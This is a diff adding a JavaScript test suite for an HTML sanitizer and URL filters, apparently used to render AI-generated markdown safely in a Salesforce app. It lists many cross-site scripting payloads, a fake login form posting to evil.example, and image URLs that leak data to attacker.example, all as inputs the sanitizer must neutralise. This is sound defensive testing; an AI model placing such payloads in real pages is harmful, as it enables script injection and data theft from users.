@@ -0,0 +1,173 @@
+import { sanitizeHtml, safeUrl, safeImageUrl } from '../sanitizer';
+import { marked } from '../markdown';
+
+// Hostile inputs, as the AI could echo them from deployment logs, user stories or the question itself
+const HOSTILE_HTML = [
+    '<script>alert(1)</script>',
+    '<SCRIPT SRC=https://evil.example/x.js></SCRIPT>',
+    '<img src=x onerror=alert(1)>',
+    '<img src="javascript:alert(1)">',
+    '<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">',
+    '<a href="javascript:alert(1)">x</a>',
+    '<a href="  JaVaScRiPt:alert(1)">x</a>',
+    '<a href="java&#x09;script:alert(1)">x</a>',
+    '<a href="java\nscript:alert(1)">x</a>',
+    '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">x</a>',
+    '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>',
+    '<a href="vbscript:msgbox(1)">x</a>',
+    '<a href="https://copado.com" onclick="alert(1)" onmouseover="alert(1)">x</a>',
+    '<p/onclick=alert(1)>x</p>',
+    '<div style="background:url(javascript:alert(1))">x</div>',
+    '<details open ontoggle=alert(1)><summary>x</summary></details>',
+    '<svg onload=alert(1)><circle r="1"/></svg>',
+    '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
+    '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>',
+    '<iframe src="https://evil.example"></iframe>',
+    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
+    '<object data="https://evil.example/x.swf"></object>',
+    '<embed src="https://evil.example/x.swf">',
+    '<form action="https://evil.example"><input type="password" name="p"><button>Log in</button></form>',
+    '<input type="text" value="x" onfocus="alert(1)" autofocus>',
+    '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
+    '<base href="javascript:/">',
+    '<link rel="stylesheet" href="https://evil.example/x.css">',
+    '<style>*{display:none}</style>',
+    '<!--<img src=x onerror=alert(1)>-->',
+    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
+    '<template><img src=x onerror=alert(1)></template>',
+    '<table><tr><td background="javascript:alert(1)">x</td></tr></table>',
+    '<span class="slds-modal" id="fake" data-x="1">x</span>',
+    '<marquee onstart=alert(1)>x</marquee>',
+    '<video><source onerror=alert(1)></video>',
+];
+
+const HOSTILE_MARKDOWN = [
+    '[click](javascript:alert(1))',
+    '[click](JAVASCRIPT:alert(1))',
+    '![x](javascript:alert(1))',
+    '[click]: javascript:alert(1)\n\n[click]',
+    '<script>alert(1)</script>',
+    'Deployment failed:\n\n<img src=x onerror=alert(1)>',
+    '```html\n<script>alert(1)</script>\n```',
+    '> <a href="javascript:alert(1)">quoted</a>',
+];
+
+const ALLOWED_TAGS = ['A', 'ABBR', 'B', 'BLOCKQUOTE', 'BR', 'CODE', 'DD', 'DEL', 'DETAILS', 'DIV', 'DL', 'DT', 'EM',
+    'H1', 'H2', 'H3', 'H4', 'H5', 'H6', 'HR', 'I', 'IMG', 'INPUT', 'INS', 'KBD', 'LI', 'MARK', 'OL', 'P',
+    'PRE', 'S', 'SPAN', 'STRONG', 'SUB', 'SUMMARY', 'SUP', 'TABLE', 'TBODY', 'TD', 'TFOOT', 'TH', 'THEAD', 'TR', 'UL'];
+
+function expectSafe(html) {
+    const template = document.createElement('template');
+    template.innerHTML = html;
+    for(const element of template.content.querySelectorAll('*')) {
+        expect(ALLOWED_TAGS).toContain(element.nodeName);
+        for(const attribute of Array.from(element.attributes)) {
+            expect(attribute.name).not.toMatch(/^on/i);
+            expect(['style', 'id', 'srcdoc', 'background', 'xlink:href']).not.toContain(attribute.name);
+            if(['href', 'src'].includes(attribute.name)) {
+                expect(attribute.value.replace(/[\u0000- ]/g, '')).not.toMatch(/^(javascript|data|vbscript):/i);
+            }
+        }
+        if(element.nodeName === 'A' && element.hasAttribute('href')) {
+            expect(element.getAttribute('rel')).toBe('noopener noreferrer');
+        }
+    }
+    expect(html).not.toMatch(/<!--/);
+}
+
+describe('sanitizeHtml', () => {
+    it.each(HOSTILE_HTML)('neutralises %s', (input) => {
+        expectSafe(sanitizeHtml(input));
+    });
+
+    it.each(HOSTILE_MARKDOWN)('neutralises the markdown %s', (input) => {
+        expectSafe(sanitizeHtml(marked.parse(input)));
+    });
+
+    it('removes dangerous elements with their content', () => {
+        expect(sanitizeHtml('<p>before</p><script>alert(1)</script><style>p{}</style><p>after</p>'))
+            .toBe('<p>before</p><p>after</p>');
+    });
+
+    it('keeps the text of unknown elements', () => {
+        expect(sanitizeHtml('<marquee>hello <b>world</b></marquee>')).toBe('hello <b>world</b>');
+    });
+
+    it('removes event handlers and disallowed attributes', () => {
+        expect(sanitizeHtml('<p onclick="alert(1)" style="color:red" title="t">x</p>')).toBe('<p title="t">x</p>');
+    });
+
+    it('removes disallowed link protocols and opens the allowed ones safely', () => {
+        expect(sanitizeHtml('<a href="javascript:alert(1)">x</a>')).toBe('<a>x</a>');
+        expect(sanitizeHtml('<a href="https://copado.com" target="_self">x</a>'))
+            .toBe('<a href="https://copado.com" target="_blank" rel="noopener noreferrer">x</a>');
+    });
+
+    it('keeps the images of the org and the raster data URLs', () => {
+        const orgImage = `${window.location.origin}/sfc/servlet.shepherd/version/download/068000000000001`;
+        expect(sanitizeHtml(`<img src="${orgImage}" alt="chart">`)).toBe(`<img src="${orgImage}" alt="chart">`);
+        expect(sanitizeHtml('<img src="/img/chart.png">')).toBe('<img src="/img/chart.png">');
+        expect(sanitizeHtml('<img src="data:image/png;base64,iVBORw0KGgo=">')).toBe('<img src="data:image/png;base64,iVBORw0KGgo=">');
+        expect(sanitizeHtml('<img src="data:image/svg+xml;base64,PHN2Zz4=">')).toBe('<img>');
+    });
+
+    it('shows the remote images as links, so they are not loaded', () => {
+        expect(sanitizeHtml('<p><img src="https://attacker.example/x.png?d=secret" alt="chart"></p>'))
+            .toBe('<p><a href="https://attacker.example/x.png?d=secret" target="_blank" rel="noopener noreferrer">chart</a></p>');
+        expect(sanitizeHtml('<img src="//attacker.example/x.png">'))
+            .toBe('<a href="//attacker.example/x.png" target="_blank" rel="noopener noreferrer">//attacker.example/x.png</a>');
+        expect(sanitizeHtml(marked.parse('![chart](https://attacker.example/x.png)')))
+            .toMatch(/^<p><a href="https:\/\/attacker.example\/x.png" target="_blank" rel="noopener noreferrer">chart<\/a><\/p>/);
+    });
+
+    it('keeps the syntax highlighting class of code blocks only', () => {
+        expect(sanitizeHtml('<pre><code class="language-apex">x</code></pre>')).toBe('<pre><code class="language-apex">x</code></pre>');
+        expect(sanitizeHtml('<code class="slds-hide">x</code>')).toBe('<code>x</code>');
+    });
+
+    it('keeps the task list checkboxes, read-only', () => {
+        expect(sanitizeHtml('<input type="checkbox" checked="">')).toBe('<input type="checkbox" checked="" disabled="">');
+        expect(sanitizeHtml('<input type="text" value="x">')).toBe('');
+    });
+
+    it('keeps the regular markdown output', () => {
+        const html = marked.parse('# Title\n\nSome **bold** and `code`\n\n- one\n- two\n\n| a | b |\n|---|---|\n| 1 | 2 |');
+        expect(sanitizeHtml(html).replace(/ id="[^"]*"/g, '')).toBe(html.replace(/ id="[^"]*"/g, ''));
+    });
+
+    it('handles empty values', () => {
+        expect(sanitizeHtml(undefined)).toBe('');
+        expect(sanitizeHtml('')).toBe('');
+    });
+});
+
+describe('safeImageUrl', () => {
+    it('allows the URLs of the org and the raster data URLs', () => {
+        expect(safeImageUrl('/img/chart.png')).toBe('/img/chart.png');
+        expect(safeImageUrl(`${window.location.origin}/img/chart.png`)).toBe(`${window.location.origin}/img/chart.png`);
+        expect(safeImageUrl('data:image/jpeg;base64,/9j/')).toBe('data:image/jpeg;base64,/9j/');
+    });
+
+    it('rejects the other servers and the other data URLs', () => {
+        expect(safeImageUrl('https://attacker.example/x.png')).toBeNull();
+        expect(safeImageUrl('//attacker.example/x.png')).toBeNull();
+        expect(safeImageUrl('data:image/svg+xml,<svg onload=alert(1)>')).toBeNull();
+        expect(safeImageUrl('javascript:alert(1)')).toBeNull();
+    });
+});
+
+describe('safeUrl', () => {
+    it('allows http, https, mailto and relative URLs', () => {
+        expect(safeUrl('https://copado.com')).toBe('https://copado.com');
+        expect(safeUrl('mailto:support@copado.com')).toBe('mailto:support@copado.com');
+        expect(safeUrl('/lightning/r/copado__User_Story__c/a0X/view')).toBe('/lightning/r/copado__User_Story__c/a0X/view');
+        expect(safeUrl('#section')).toBe('#section');
+    });
+
+    it('rejects other protocols, however they are written', () => {
+        expect(safeUrl('javascript:alert(1)')).toBeNull();
+        expect(safeUrl(' \tjava\nscript:alert(1)')).toBeNull();
+        expect(safeUrl('data:text/html,x')).toBeNull();
+        expect(safeUrl('mailto:x@example.com', ['http:', 'https:'])).toBeNull();
+    });
+});